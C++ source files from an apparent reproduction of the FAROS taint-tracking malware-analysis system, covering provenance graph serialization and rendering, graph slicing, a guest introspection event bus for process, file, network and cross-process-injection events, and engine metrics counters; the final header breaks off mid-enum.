namespace {

constexpr u32 kMagic = 0x31475046u;  // "FPG1" little-endian
constexpr u32 kVersion = 1;

}  // namespace

Bytes serialize(const ProvGraph& g) {
  // String table in first-use order (node name, then detail, per node).
  std::vector<std::string> strings;
  std::unordered_map<std::string, u32> sid;
  auto intern = [&](const std::string& s) {
    auto it = sid.find(s);
    if (it != sid.end()) return it->second;
    u32 id = static_cast<u32>(strings.size());
    strings.push_back(s);
    sid.emplace(s, id);
    return id;
  };

  struct PackedNode {
    u8 type;
    u32 name_sid, detail_sid;
    u64 a, b, c;
  };
  std::vector<PackedNode> packed;
  packed.reserve(g.nodes.size());
  for (const Node& n : g.nodes) {
    packed.push_back(PackedNode{static_cast<u8>(n.type), intern(n.name),
                                intern(n.detail), n.a, n.b, n.c});
  }

  ByteWriter w;
  w.put_u32(kMagic);
  w.put_u32(kVersion);
  w.put_u32(static_cast<u32>(strings.size()));
  for (const std::string& s : strings) w.put_str(s);
  w.put_u32(static_cast<u32>(packed.size()));
  for (const PackedNode& n : packed) {
    w.put_u8(n.type);
    w.put_u32(n.name_sid);
    w.put_u32(n.detail_sid);
    w.put_u64(n.a);
    w.put_u64(n.b);
    w.put_u64(n.c);
  }
  w.put_u32(static_cast<u32>(g.edges.size()));
  for (const Edge& e : g.edges) {
    w.put_u8(static_cast<u8>(e.type));
    w.put_u32(e.src);
    w.put_u32(e.dst);
    w.put_u32(e.aux);
  }
  return w.take();
}

Result<ProvGraph> deserialize(ByteSpan data) {
  ByteReader r(data);
  if (r.get_u32() != kMagic) return Err<ProvGraph>("not an FPG graph file");
  u32 version = r.get_u32();
  if (version != kVersion) {
    return Err<ProvGraph>(strf("unsupported FPG version %u", version));
  }
  u32 nstrings = r.get_u32();
  std::vector<std::string> strings;
  strings.reserve(std::min<u32>(nstrings, 1u << 16));
  for (u32 i = 0; i < nstrings && r.ok(); ++i) strings.push_back(r.get_str());

  ProvGraph g;
  u32 nnodes = r.get_u32();
  u32 per_type[kNodeTypeCount] = {};
  for (u32 i = 0; i < nnodes && r.ok(); ++i) {
    u8 type = r.get_u8();
    u32 name_sid = r.get_u32();
    u32 detail_sid = r.get_u32();
    u64 a = r.get_u64(), b = r.get_u64(), c = r.get_u64();
    if (type >= kNodeTypeCount || name_sid >= strings.size() ||
        detail_sid >= strings.size()) {
      return Err<ProvGraph>(strf("corrupt node %u", i));
    }
    Node n;
    n.type = static_cast<NodeType>(type);
    n.index = per_type[type]++;  // recomputed; serialization omits it
    n.name = strings[name_sid];
    n.detail = strings[detail_sid];
    n.a = a;
    n.b = b;
    n.c = c;
    g.nodes.push_back(std::move(n));
  }
  u32 nedges = r.get_u32();
  for (u32 i = 0; i < nedges && r.ok(); ++i) {
    u8 type = r.get_u8();
    u32 src = r.get_u32(), dst = r.get_u32(), aux = r.get_u32();
    if (type >= kEdgeTypeCount || src >= g.nodes.size() ||
        dst >= g.nodes.size()) {
      return Err<ProvGraph>(strf("corrupt edge %u", i));
    }
    g.edges.push_back(Edge{static_cast<EdgeType>(type), src, dst, aux});
  }
  if (!r.ok()) return Err<ProvGraph>("truncated FPG graph file");
  return g;
}

// ---------------------------------------------------------------------------
// Human renderings.

std::string render_dot(const ProvGraph& g) {
  static constexpr const char* kColors[kNodeTypeCount] = {
      "lightskyblue",  // netflow
      "palegreen",     // process
      "khaki",         // file
      "lightgrey",     // module
      "sandybrown",    // region
      "salmon",        // finding
  };
  std::string out = "digraph prov {\n  rankdir=LR;\n  node [shape=box];\n";
  for (u32 i = 0; i < g.nodes.size(); ++i) {
    const Node& n = g.nodes[i];
    out += strf("  n%u [label=\"%s\\n%s\", style=filled, fillcolor=%s];\n",
                i, g.ref(i).c_str(), json_escape(n.name).c_str(),
                kColors[static_cast<u32>(n.type)]);
  }
  for (const Edge& e : g.edges) {
    out += strf("  n%u -> n%u [label=\"%s\"];\n", e.src, e.dst,
                edge_type_name(e.type));
  }
  out += "}\n";
  return out;
}

std::string render_jsonl(const ProvGraph& g) {
  std::string out;
  for (u32 i = 0; i < g.nodes.size(); ++i) {
    const Node& n = g.nodes[i];
    JsonWriter w;
    w.field("type", "node")
        .field("ref", g.ref(i))
        .field("kind", node_type_name(n.type))
        .field("name", n.name)
        .field("detail", n.detail)
        .field("a", n.a)
        .field("b", n.b)
        .field("c", n.c);
    out += w.str();
    out += '\n';
  }
  for (const Edge& e : g.edges) {
    JsonWriter w;
    w.field("type", "edge")
        .field("kind", edge_type_name(e.type))
        .field("src", g.ref(e.src))
        .field("dst", g.ref(e.dst))
        .field("aux", e.aux);
    out += w.str();
    out += '\n';
  }
  return out;
}

}  // namespace faros::graph
