// Provenance graph export (the analyst-facing layer the TC engagement
// analyses work with): materializes the engine's interned ProvStore lists
// plus the kernel state at snapshot time into a typed, queryable graph.
//
// Node types: netflow, process, file, module, memory region, finding.
// Edge types (stored orientation / data-flow direction):
//  * derived-from  region|finding -> netflow|file|module   (flow dst->src)
//  * wrote-into    process -> region|finding               (flow src->dst)
//  * fetched-by    finding -> process                      (flow src->dst)
//  * spawned       parent process -> child process         (flow src->dst)
//  * flagged       finding -> region holding the flagged pc (flow dst->src)
//
// Determinism: node order is type-major with a per-type order fixed by the
// engine's intern order (tag maps), the kernel's pid-sorted process list,
// the module load order, the taint_map region walk, and the findings
// vector; edges are deduplicated on (type, src, dst) keeping the smallest
// chain position and sorted. A job's graph is therefore a pure function of
// its JobSpec — the farm writes byte-identical .fpg files at any worker
// count, which CI pins.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "common/bytesio.h"
#include "common/result.h"
#include "core/engine.h"
#include "os/kernel.h"

namespace faros::graph {

enum class NodeType : u8 {
  kNetflow = 0,
  kProcess = 1,
  kFile = 2,
  kModule = 3,
  kRegion = 4,
  kFinding = 5,
};
inline constexpr u32 kNodeTypeCount = 6;

const char* node_type_name(NodeType t);

/// One graph node. The canonical analyst-facing reference is "type:index"
/// ("finding:0", "netflow:2") — the per-type index, not the global id —
/// because per-type indices are stable under slicing and match the labels
/// core::taint_map / render_summary embed in their text output.
struct Node {
  NodeType type = NodeType::kNetflow;
  u32 index = 0;        // per-type ordinal
  std::string name;     // short label ("stager.exe", policy id, ...)
  std::string detail;   // human rendering (flow tuple, prov chain, ...)
  // Type-specific payload:
  //  netflow: a=(src_ip<<16)|src_port b=(dst_ip<<16)|dst_port c=#lists
  //  process: a=pid b=cr3 c=parent pid
  //  file:    a=file_id b=version c=#lists referencing the tag
  //  module:  a=base b=size c=export_count
  //  region:  a=start va b=(owner pid<<32)|len c=prov list id
  //  finding: a=insn va b=instr_index c=(whitelisted<<1)|warn_only
  u64 a = 0, b = 0, c = 0;
};

enum class EdgeType : u8 {
  kDerivedFrom = 0,
  kWroteInto = 1,
  kFetchedBy = 2,
  kSpawned = 3,
  kFlagged = 4,
};
inline constexpr u32 kEdgeTypeCount = 5;

const char* edge_type_name(EdgeType t);

struct Edge {
  EdgeType type = EdgeType::kDerivedFrom;
  u32 src = 0;  // global node id
  u32 dst = 0;  // global node id
  u32 aux = 0;  // chain position for provenance-derived edges, else 0
};

/// True when data flows src->dst for this edge type (see the orientation
/// table above). Backward slices traverse against flow, forward along it.
bool edge_flows_forward(EdgeType t);

struct ProvGraph {
  std::vector<Node> nodes;  // type-major; global id = vector position
  std::vector<Edge> edges;  // sorted by (type, src, dst)

  size_t count(NodeType t) const;
  /// Global id for "type:index", or nullopt when absent.
  std::optional<u32> node_id(NodeType t, u32 index) const;
  /// Canonical reference of a node: "finding:0".
  std::string ref(u32 node_id) const;
};

/// Parses a "type:index" node reference ("finding:0", "netflow:2").
Result<std::pair<NodeType, u32>> parse_node_ref(const std::string& ref);

/// Builds the graph from an engine snapshot plus the kernel it observed.
/// Call after the replay finished; both must outlive the call only.
ProvGraph build_graph(const core::FarosEngine& engine,
                      const os::Kernel& kernel);

/// Compact versioned binary ("FPG1": string table + nodes + edges).
/// serialize is deterministic; deserialize(serialize(g)) round-trips.
Bytes serialize(const ProvGraph& g);
Result<ProvGraph> deserialize(ByteSpan data);

/// Graphviz rendering (clusters by node type).
std::string render_dot(const ProvGraph& g);

/// JSONL rendering: one {"type":"node",...} line per node, then one
/// {"type":"edge",...} line per edge. Deterministic.
std::string render_jsonl(const ProvGraph& g);

}  // namespace faros::graph
