#include "graph/slice.h"

#include <algorithm>

#include "common/json.h"

namespace faros::graph {

namespace {

struct Neighbour {
  u32 node;
  EdgeType via;
};

/// Neighbours of `id` in traversal direction, ascending node id. Forward
/// traversal follows data flow; backward runs against it.
std::vector<Neighbour> neighbours(const ProvGraph& g, u32 id, bool forward) {
  std::vector<Neighbour> out;
  for (const Edge& e : g.edges) {
    u32 flow_from = edge_flows_forward(e.type) ? e.src : e.dst;
    u32 flow_to = edge_flows_forward(e.type) ? e.dst : e.src;
    if (forward && flow_from == id) out.push_back({flow_to, e.type});
    if (!forward && flow_to == id) out.push_back({flow_from, e.type});
  }
  std::sort(out.begin(), out.end(), [](const Neighbour& x, const Neighbour& y) {
    return std::tie(x.node, x.via) < std::tie(y.node, y.via);
  });
  return out;
}

}  // namespace

Slice slice(const ProvGraph& g, u32 root, const SliceOptions& opts) {
  Slice s;
  if (root >= g.nodes.size()) return s;

  std::vector<bool> seen(g.nodes.size(), false);
  seen[root] = true;
  s.hops.push_back(SliceHop{root, 0, ~0u, EdgeType::kDerivedFrom});

  // Layered BFS over the hops vector itself: frontier [lo, hi) is depth d.
  size_t lo = 0, hi = 1;
  for (u32 depth = 0; lo < hi; ++depth) {
    if (depth >= opts.max_depth) {
      // Anything still expandable past the cap counts as truncation.
      for (size_t i = lo; i < hi && !s.truncated; ++i) {
        for (const Neighbour& nb : neighbours(g, s.hops[i].node,
                                              opts.forward)) {
          if (!seen[nb.node]) s.truncated = true;
        }
      }
      break;
    }
    for (size_t i = lo; i < hi; ++i) {
      u32 expanded = 0;
      for (const Neighbour& nb : neighbours(g, s.hops[i].node, opts.forward)) {
        if (seen[nb.node]) continue;
        if (expanded >= opts.max_fanout) {
          s.truncated = true;
          break;
        }
        seen[nb.node] = true;
        ++expanded;
        s.hops.push_back(
            SliceHop{nb.node, depth + 1, s.hops[i].node, nb.via});
      }
    }
    lo = hi;
    hi = s.hops.size();
  }

  for (const SliceHop& h : s.hops) {
    NodeType t = g.nodes[h.node].type;
    if (t == NodeType::kNetflow || t == NodeType::kFile) {
      s.sources.push_back(h.node);
    }
  }
  std::sort(s.sources.begin(), s.sources.end());
  return s;
}

std::string render_slice_jsonl(const ProvGraph& g, const Slice& s,
                               const SliceOptions& opts) {
  std::string out;
  {
    JsonWriter w;
    w.field("type", "slice")
        .field("direction", opts.forward ? "forward" : "backward")
        .field("root", s.hops.empty() ? "?" : g.ref(s.hops.front().node))
        .field("nodes", static_cast<u64>(s.hops.size()))
        .field("truncated", s.truncated);
    out += w.str();
    out += '\n';
  }
  for (const SliceHop& h : s.hops) {
    const Node& n = g.nodes[h.node];
    JsonWriter w;
    w.field("type", "hop")
        .field("ref", g.ref(h.node))
        .field("kind", node_type_name(n.type))
        .field("name", n.name)
        .field("depth", h.depth);
    if (h.from != ~0u) {
      w.field("via", edge_type_name(h.via)).field("from", g.ref(h.from));
    }
    out += w.str();
    out += '\n';
  }
  {
    std::string refs = "[";
    for (size_t i = 0; i < s.sources.size(); ++i) {
      if (i) refs += ',';
      refs += '"';
      refs += json_escape(g.ref(s.sources[i]));
      refs += '"';
    }
    refs += ']';
    JsonWriter w;
    w.field("type", "sources").raw_field("refs", refs);
    out += w.str();
    out += '\n';
  }
  return out;
}

}  // namespace faros::graph
