// Slicing queries over a ProvGraph: backward from an artifact to its
// origins (netflow/file sources), forward from a source to everything it
// reached. BFS with depth and per-node fanout caps; hop order is layer by
// layer with node ids ascending inside a layer, so slice output is
// deterministic and diffable.
#pragma once

#include <string>
#include <vector>

#include "graph/graph.h"

namespace faros::graph {

struct SliceOptions {
  u32 max_depth = 32;
  u32 max_fanout = 64;   // neighbours expanded per node
  bool forward = false;  // false = backward (against data flow)
};

struct SliceHop {
  u32 node = 0;                           // global node id
  u32 depth = 0;                          // 0 = the root itself
  u32 from = ~0u;                         // predecessor id (~0 for root)
  EdgeType via = EdgeType::kDerivedFrom;  // edge reached through (not root)
};

struct Slice {
  std::vector<SliceHop> hops;  // BFS order; hops[0] is the root
  std::vector<u32> sources;    // netflow/file node ids reached, ascending
  bool truncated = false;      // a depth or fanout cap dropped neighbours
};

/// Slices from global node id `root`. An out-of-range root yields an empty
/// slice (no hops).
Slice slice(const ProvGraph& g, u32 root, const SliceOptions& opts);

/// Stable JSONL: {"type":"slice",...} header, one {"type":"hop",...} line
/// per hop, then {"type":"sources","refs":[...]}.
std::string render_slice_jsonl(const ProvGraph& g, const Slice& s,
                               const SliceOptions& opts);

}  // namespace faros::graph
