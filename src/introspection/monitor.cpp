#include "introspection/monitor.h"

#include <algorithm>

namespace faros::osi {

void MonitorBus::detach(GuestMonitor* m) {
  monitors_.erase(std::remove(monitors_.begin(), monitors_.end(), m),
                  monitors_.end());
}

void MonitorBus::on_process_start(const ProcessInfo& p) {
  for (auto* m : monitors_) m->on_process_start(p);
}
void MonitorBus::on_process_exit(const ProcessInfo& p, u32 code) {
  for (auto* m : monitors_) m->on_process_exit(p, code);
}
void MonitorBus::on_module_loaded(const ModuleInfo& mod,
                                  const vm::AddressSpace& as) {
  for (auto* m : monitors_) m->on_module_loaded(mod, as);
}
void MonitorBus::on_syscall(const SyscallEvent& ev) {
  for (auto* m : monitors_) m->on_syscall(ev);
}
void MonitorBus::on_packet_to_guest(const GuestXfer& x, const FlowTuple& f,
                                    const PacketMeta& meta) {
  for (auto* m : monitors_) m->on_packet_to_guest(x, f, meta);
}
void MonitorBus::on_guest_send(const GuestXfer& x, const FlowTuple& f,
                               const PacketMeta& meta) {
  for (auto* m : monitors_) m->on_guest_send(x, f, meta);
}
void MonitorBus::on_file_read(const GuestXfer& x, u32 id,
                              const std::string& path, u32 ver, u32 off) {
  for (auto* m : monitors_) m->on_file_read(x, id, path, ver, off);
}
void MonitorBus::on_file_write(const GuestXfer& x, u32 id,
                               const std::string& path, u32 ver, u32 off) {
  for (auto* m : monitors_) m->on_file_write(x, id, path, ver, off);
}
void MonitorBus::on_image_mapped(const ProcessInfo& p,
                                 const vm::AddressSpace& as, VAddr base,
                                 u32 len, u32 id, const std::string& path,
                                 u32 ver) {
  for (auto* m : monitors_) {
    m->on_image_mapped(p, as, base, len, id, path, ver);
  }
}
void MonitorBus::on_iat_resolved(const ProcessInfo& p,
                                 const vm::AddressSpace& as, VAddr slot_va) {
  for (auto* m : monitors_) m->on_iat_resolved(p, as, slot_va);
}
void MonitorBus::on_cross_process_write(const GuestXfer& s,
                                        const GuestXfer& d) {
  for (auto* m : monitors_) m->on_cross_process_write(s, d);
}
void MonitorBus::on_atom_write(const GuestXfer& x, u32 atom_id) {
  for (auto* m : monitors_) m->on_atom_write(x, atom_id);
}
void MonitorBus::on_atom_read(const GuestXfer& x, u32 atom_id) {
  for (auto* m : monitors_) m->on_atom_read(x, atom_id);
}
void MonitorBus::on_device_read(const GuestXfer& x, u32 dev) {
  for (auto* m : monitors_) m->on_device_read(x, dev);
}
void MonitorBus::on_frame_recycled(PAddr frame) {
  for (auto* m : monitors_) m->on_frame_recycled(frame);
}
void MonitorBus::on_kernel_write(const GuestXfer& x) {
  for (auto* m : monitors_) m->on_kernel_write(x);
}
void MonitorBus::on_debug_print(const ProcessInfo& p,
                                const std::string& text) {
  for (auto* m : monitors_) m->on_debug_print(p, text);
}

}  // namespace faros::osi
