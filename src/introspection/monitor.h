// Guest introspection interfaces — the reproduction's analogue of PANDA's
// `syscalls2` and `OSI/Win7x86intro` plugins, which FAROS consumes.
//
// The kernel (src/os) publishes semantic events through a GuestMonitor:
// syscall entry with dereferenced arguments, process lifecycle, module
// loads (with guest-resident export tables), and — crucially for
// whole-system taint — every byte the kernel moves on behalf of a process
// (packet delivery, file I/O, cross-process writes). A MonitorBus fans the
// stream out to any number of attached analysis plugins (FAROS itself, the
// CuckooBox baseline, test probes).
//
// Events reference guest state (AddressSpace) that is only valid for the
// duration of the callback.
#pragma once

#include <string>
#include <vector>

#include "common/flow.h"
#include "common/types.h"
#include "vm/mmu.h"

namespace faros::osi {

using Pid = u32;

/// Process metadata snapshot (what OSI's `get_current_process` returns).
struct ProcessInfo {
  Pid pid = 0;
  Pid parent_pid = 0;
  PAddr cr3 = 0;
  std::string name;  // image name, e.g. "notepad.exe"
};

/// A loaded module with its guest-resident export table.
struct ModuleInfo {
  std::string name;  // "ntdll.dll"
  u32 name_hash = 0;
  VAddr base = 0;
  u32 size = 0;
  VAddr exports_va = 0;  // guest address of the export table structure
  u32 export_count = 0;
};

/// Syscall entry event with raw arguments (pointer arguments are
/// dereferenced by the individual semantic callbacks below).
struct SyscallEvent {
  ProcessInfo proc;
  u32 number = 0;
  const char* name = "?";
  u32 args[4] = {};
};

/// Transport metadata for packet events: the segment identity lets the
/// taint engine key per-byte packet shadows so provenance survives
/// loopback (guest-to-guest) transfers.
struct PacketMeta {
  u64 segment_id = 0;   // 0 = unknown/not tracked
  u32 segment_off = 0;  // offset of the first delivered byte in the segment
  bool loopback = false;
};

/// A kernel-mediated byte transfer touching guest memory. `as` translates
/// the guest-side address; for cross-process copies both sides are guest.
struct GuestXfer {
  ProcessInfo proc;          // the process on whose behalf the kernel acts
  const vm::AddressSpace* as = nullptr;
  VAddr va = 0;
  u32 len = 0;
};

/// Analysis plugin interface. Default implementations ignore everything.
class GuestMonitor {
 public:
  virtual ~GuestMonitor() = default;

  // --- process lifecycle (OSI) ---
  virtual void on_process_start(const ProcessInfo& proc) { (void)proc; }
  virtual void on_process_exit(const ProcessInfo& proc, u32 exit_code) {
    (void)proc;
    (void)exit_code;
  }

  // --- module loading: fires once per module with the export table already
  // materialised in guest memory (FAROS taints the function pointers).
  virtual void on_module_loaded(const ModuleInfo& mod,
                                const vm::AddressSpace& kernel_as) {
    (void)mod;
    (void)kernel_as;
  }

  // --- syscalls2-style raw syscall entry ---
  virtual void on_syscall(const SyscallEvent& ev) { (void)ev; }

  // --- network ---
  /// Kernel copied `xfer.len` packet bytes into the guest buffer at
  /// `xfer.va`. The flow is the packet's 4-tuple (remote -> guest).
  virtual void on_packet_to_guest(const GuestXfer& xfer,
                                  const FlowTuple& flow,
                                  const PacketMeta& meta = {}) {
    (void)xfer;
    (void)flow;
    (void)meta;
  }
  /// Guest sent `xfer.len` bytes from `xfer.va` over `flow`
  /// (guest -> remote, or guest -> guest when meta.loopback).
  virtual void on_guest_send(const GuestXfer& xfer, const FlowTuple& flow,
                             const PacketMeta& meta = {}) {
    (void)xfer;
    (void)flow;
    (void)meta;
  }

  // --- file system ---
  /// Kernel copied file content into the guest buffer.
  virtual void on_file_read(const GuestXfer& xfer, u32 file_id,
                            const std::string& path, u32 version,
                            u32 file_offset) {
    (void)xfer;
    (void)file_id;
    (void)path;
    (void)version;
    (void)file_offset;
  }
  /// Kernel copied the guest buffer into file content.
  virtual void on_file_write(const GuestXfer& xfer, u32 file_id,
                             const std::string& path, u32 version,
                             u32 file_offset) {
    (void)xfer;
    (void)file_id;
    (void)path;
    (void)version;
    (void)file_offset;
  }
  /// An executable image backed by `path` was mapped at `base`.
  virtual void on_image_mapped(const ProcessInfo& proc,
                               const vm::AddressSpace& as, VAddr base,
                               u32 len, u32 file_id, const std::string& path,
                               u32 version) {
    (void)proc;
    (void)as;
    (void)base;
    (void)len;
    (void)file_id;
    (void)path;
    (void)version;
  }

  /// The loader resolved an import against a module's export table and
  /// wrote the function pointer into the image's IAT slot at `slot_va`.
  /// These pointers are *derived from* export-table data (the paper's
  /// Section V-B observation), so FAROS tags them like the tables
  /// themselves — defeating IAT-scanning evasions.
  virtual void on_iat_resolved(const ProcessInfo& proc,
                               const vm::AddressSpace& as, VAddr slot_va) {
    (void)proc;
    (void)as;
    (void)slot_va;
  }

  // --- cross-process memory (the injection surface) ---
  /// `src` process wrote `len` bytes from its `src.va` into `dst` process
  /// memory at `dst.va` (NtWriteVirtualMemory).
  virtual void on_cross_process_write(const GuestXfer& src,
                                      const GuestXfer& dst) {
    (void)src;
    (void)dst;
  }

  // --- global atom table (atom-bombing IPC) ---
  /// A process stored `xfer.len` bytes from its memory into atom `atom_id`.
  virtual void on_atom_write(const GuestXfer& xfer, u32 atom_id) {
    (void)xfer;
    (void)atom_id;
  }
  /// A process read atom `atom_id` into its memory at `xfer.va`.
  virtual void on_atom_read(const GuestXfer& xfer, u32 atom_id) {
    (void)xfer;
    (void)atom_id;
  }

  // --- devices ---
  virtual void on_device_read(const GuestXfer& xfer, u32 device_id) {
    (void)xfer;
    (void)device_id;
  }

  // --- memory hygiene: a physical frame was freed/recycled; any shadow
  // state covering it is stale and must be dropped.
  virtual void on_frame_recycled(PAddr frame_base) { (void)frame_base; }

  /// The kernel overwrote guest bytes on a process' behalf. Fires for
  /// *every* kernel->guest copy, before any more specific event (packet,
  /// file read, ...) re-taints the range: shadow state covering the range
  /// is stale. This is the native-kernel substitute for the tag-delete
  /// the paper's emulated kernel stores would have performed.
  virtual void on_kernel_write(const GuestXfer& xfer) { (void)xfer; }

  // --- guest diagnostics (NtDebugPrint; the "pop-up message" analogue) ---
  virtual void on_debug_print(const ProcessInfo& proc,
                              const std::string& text) {
    (void)proc;
    (void)text;
  }
};

/// Fans events out to registered monitors in registration order.
class MonitorBus : public GuestMonitor {
 public:
  void attach(GuestMonitor* m) { monitors_.push_back(m); }
  void detach(GuestMonitor* m);
  size_t count() const { return monitors_.size(); }

  void on_process_start(const ProcessInfo& p) override;
  void on_process_exit(const ProcessInfo& p, u32 code) override;
  void on_module_loaded(const ModuleInfo& m,
                        const vm::AddressSpace& as) override;
  void on_syscall(const SyscallEvent& ev) override;
  void on_packet_to_guest(const GuestXfer& x, const FlowTuple& f,
                          const PacketMeta& meta = {}) override;
  void on_guest_send(const GuestXfer& x, const FlowTuple& f,
                     const PacketMeta& meta = {}) override;
  void on_file_read(const GuestXfer& x, u32 id, const std::string& path,
                    u32 ver, u32 off) override;
  void on_file_write(const GuestXfer& x, u32 id, const std::string& path,
                     u32 ver, u32 off) override;
  void on_image_mapped(const ProcessInfo& p, const vm::AddressSpace& as,
                       VAddr base, u32 len, u32 id, const std::string& path,
                       u32 ver) override;
  void on_iat_resolved(const ProcessInfo& p, const vm::AddressSpace& as,
                       VAddr slot_va) override;
  void on_cross_process_write(const GuestXfer& s, const GuestXfer& d) override;
  void on_atom_write(const GuestXfer& x, u32 atom_id) override;
  void on_atom_read(const GuestXfer& x, u32 atom_id) override;
  void on_device_read(const GuestXfer& x, u32 dev) override;
  void on_frame_recycled(PAddr frame) override;
  void on_kernel_write(const GuestXfer& x) override;
  void on_debug_print(const ProcessInfo& p, const std::string& text) override;

 private:
  std::vector<GuestMonitor*> monitors_;
};

}  // namespace faros::osi
