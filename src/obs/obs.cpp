#include "obs/obs.h"

#include "common/json.h"

namespace faros::obs {

const char* ctr_name(Ctr c) {
  switch (c) {
    case Ctr::kShadowFrameCacheHit: return "shadow_frame_cache_hit";
    case Ctr::kShadowFrameCacheMiss: return "shadow_frame_cache_miss";
    case Ctr::kShadowPageAlloc: return "shadow_page_alloc";
    case Ctr::kShadowPageDrop: return "shadow_page_drop";
    case Ctr::kShadowCleanSkip: return "shadow_clean_skip";
    case Ctr::kFetchCacheHit: return "fetch_cache_hit";
    case Ctr::kFetchCacheMiss: return "fetch_cache_miss";
    case Ctr::kMergeMemoHit: return "merge_memo_hit";
    case Ctr::kMergeMemoMiss: return "merge_memo_miss";
    case Ctr::kAppendMemoHit: return "append_memo_hit";
    case Ctr::kAppendMemoMiss: return "append_memo_miss";
    case Ctr::kInsnsRetired: return "insns_retired";
    case Ctr::kLoads: return "loads";
    case Ctr::kStores: return "stores";
    case Ctr::kTaintedFetches: return "tainted_fetches";
    case Ctr::kTaintedLoads: return "tainted_loads";
    case Ctr::kTaintedStores: return "tainted_stores";
    case Ctr::kPolicyEvals: return "policy_evals";
    case Ctr::kTaintSrcEvents: return "taint_src_events";
    case Ctr::kNetflowSrcBytes: return "netflow_src_bytes";
    case Ctr::kFileReadSrcBytes: return "file_read_src_bytes";
    case Ctr::kFileWriteSrcBytes: return "file_write_src_bytes";
    case Ctr::kImageMapSrcBytes: return "image_map_src_bytes";
    case Ctr::kExportTagBytes: return "export_tag_bytes";
    case Ctr::kSaImagesAnalyzed: return "sa_images_analyzed";
    case Ctr::kSaBlocksRecovered: return "sa_blocks_recovered";
    case Ctr::kSaInsnsDecoded: return "sa_insns_decoded";
    case Ctr::kSaIndirectsResolved: return "sa_indirects_resolved";
    case Ctr::kSaRulesFired: return "sa_rules_fired";
    case Ctr::kRuleEvalsTaintedLoad: return "rule_evals_tainted_load";
    case Ctr::kRuleEvalsTaintedStore: return "rule_evals_tainted_store";
    case Ctr::kRuleEvalsExecPageWrite: return "rule_evals_exec_page_write";
    case Ctr::kRuleEvalsTaintedFetch: return "rule_evals_tainted_fetch";
    case Ctr::kRuleEvalsSyscallArg: return "rule_evals_syscall_arg";
    case Ctr::kRuleMatches: return "rule_matches";
    case Ctr::kBtTranslate: return "bt_translate";
    case Ctr::kBtHit: return "bt_hit";
    case Ctr::kBtEvictSmc: return "bt_evict_smc";
    case Ctr::kBtEvictCr3: return "bt_evict_cr3";
    case Ctr::kBtElidedBlocks: return "bt_elided_blocks";
    case Ctr::kBtGuardFail: return "bt_guard_fail";
    case Ctr::kBtElidedInsns: return "bt_elided_insns";
    case Ctr::kBtHintBlocks: return "bt_hint_blocks";
    case Ctr::kSnapClone: return "snap_clone";
    case Ctr::kCowFault: return "cow_faults";
    case Ctr::kSnapSharedPages: return "snap_shared_pages";
    case Ctr::kRingRecords: return "ring_records";
    case Ctr::kRingWindows: return "ring_windows";
    case Ctr::kRingElideVeto: return "ring_elide_veto";
    case Ctr::kRingProducerStalls: return "ring_producer_stalls";
    case Ctr::kRingConsumerWaits: return "ring_consumer_waits";
    case Ctr::kRingMaxDepth: return "ring_max_depth";
    case Ctr::kCount: break;
  }
  return "?";
}

const char* tmr_name(Tmr t) {
  switch (t) {
    case Tmr::kRecord: return "record_ns";
    case Tmr::kReplay: return "replay_ns";
    case Tmr::kStatic: return "static_ns";
    case Tmr::kCount: break;
  }
  return "?";
}

void append_counter_fields(JsonWriter& w, const MetricSnapshot& m) {
  // The serialised schema deliberately stops before the nondeterministic
  // tail: ring stall/wait/depth counters vary with thread scheduling and
  // would break the byte-identical-across-worker-counts guarantee.
  for (u32 i = 0; i < kFirstNondetCtr; ++i) {
    w.field(ctr_name(static_cast<Ctr>(i)), m.counters[i]);
  }
}

}  // namespace faros::obs
