// obs — low-overhead metrics + tracing for the DIFT hot path and the farm.
//
// Hardware-DIFT designs treat counters for taint-check hits, shadow traffic
// and propagation stalls as first-class architecture (Jahanshahi's DIFT
// survey; Wahab et al.'s ARM IFT coprocessor expose them as MMIO registers);
// this is the software analogue. The engine's caches and fast paths are
// useless to reason about blind — every perf PR needs to see hit rates, not
// guess them — and the provenance story FAROS sells to the analyst deserves
// the same treatment for the engine itself.
//
// Design (the "sink model"):
//  * A MetricSink is a flat array of u64 cells — one per Ctr — plus a small
//    array of timer accumulators. It is plain data: no locks, no atomics.
//    Each FarosEngine owns at most one sink, and an engine is single-
//    threaded by construction (one machine per farm job), so increments
//    are unsynchronised adds.
//  * A Counter is a bound handle: a raw pointer to one sink cell, or null
//    when metrics are off. inc() is "branch on null, then one add" — the
//    disabled cost is a predicted-not-taken test, and the enabled cost is
//    one increment on a cache-hot line. Hot structures (ShadowMemory,
//    ProvStore) hold pre-bound Counters so the hot path never does enum
//    indexing or sink lookups.
//  * A ScopedTimer brackets a region and adds elapsed nanoseconds to a Tmr
//    cell on destruction. Timers are wall-clock and therefore
//    nondeterministic: they are deliberately kept OUT of the deterministic
//    metrics serialisation (farm/results) and only surface in summary
//    records, mirroring how JobResult::wall_ms is handled.
//  * Compile-time kill switch: building with -DFAROS_OBS_DISABLED compiles
//    Counter::inc and ScopedTimer down to nothing (no branch, no clock
//    reads) for substrates where even the null test is unwelcome.
//
// Determinism: every Ctr counts an event of the deterministic replay
// (cache hits, page allocations, retired instructions, taint-source bytes),
// so two replays of the same recording produce identical counter arrays —
// the property the farm's metrics.jsonl tests pin down.
#pragma once

#include <array>
#include <chrono>

#include "common/types.h"

namespace faros {
class JsonWriter;
}

namespace faros::obs {

/// Counter taxonomy. Grouped by the subsystem that owns the increment;
/// keep ctr_name() in obs.cpp in sync.
enum class Ctr : u32 {
  // --- ShadowMemory (src/core/shadow.h) ---
  kShadowFrameCacheHit = 0,  // directory probe answered by the 1-entry cache
  kShadowFrameCacheMiss,     // probe fell through to the hash directory
  kShadowPageAlloc,          // shadow page materialised
  kShadowPageDrop,           // shadow page freed (clear_range / zero-taint)
  kShadowCleanSkip,          // range probe answered by the global zero-taint
                             // count without touching any page

  // --- FarosEngine fetch-provenance cache (src/core/engine.cpp) ---
  kFetchCacheHit,   // fetch provenance served by the direct-mapped cache
  kFetchCacheMiss,  // fetch walked the instruction bytes

  // --- ProvStore memo tables (src/core/provenance.h) ---
  kMergeMemoHit,
  kMergeMemoMiss,
  kAppendMemoHit,
  kAppendMemoMiss,

  // --- per-replay engine totals (copied from EngineStats at snapshot) ---
  kInsnsRetired,
  kLoads,
  kStores,
  kTaintedFetches,
  kTaintedLoads,   // loads whose source bytes carried provenance
  kTaintedStores,  // stores that wrote at least one tainted byte
  kPolicyEvals,

  // --- taint-source events (syscall-driven monitor hooks) ---
  kTaintSrcEvents,        // every tag-insertion hook invocation
  kNetflowSrcBytes,       // packet bytes delivered into guest buffers
  kFileReadSrcBytes,      // file bytes read into memory
